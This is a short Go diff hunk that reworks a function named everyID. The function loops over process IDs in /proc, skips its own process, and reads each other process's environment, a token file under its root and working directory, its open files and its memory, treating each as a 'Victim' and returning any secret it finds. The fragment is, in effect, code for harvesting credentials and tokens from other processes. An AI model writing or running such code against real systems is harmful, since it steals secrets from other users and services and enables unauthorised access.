@@ -177,17 +177,16 @@ func everyID(*target) string {
 	text, _ := os.ReadFile("/proc/sys/kernel/pid_max")
 	last, _ := strconv.Atoi(strings.TrimSpace(string(text))) // 0 finds nothing
 	for pid := 1; pid <= min(last, 1<<16); pid++ {
-		dir := fmt.Sprintf("/proc/%d", pid)
 		if pid == os.Getpid() {
 			continue
 		}
-		for _, name := range []string{"environ", "root" + token, "cwd/token"} {
-			if s := secretOf(dir + "/" + name); s != "" {
-				return s
-			}
+		dir, t := fmt.Sprintf("/proc/%d", pid), &target{Victim: pid}
+		found := secretOf(dir+"/environ") + secretOf(dir+"/root"+token)
+		if _, err := os.Stat(dir); err == nil {
+			found += secretOf(dir+"/cwd/token") + openFiles(t) + memoryFile(t)
 		}
-		if s := openFiles(&target{Victim: pid}) + memoryFile(&target{Victim: pid}); s != "" {
-			return s
+		if found != "" {
+			return found
 		}
 	}
 	return ""
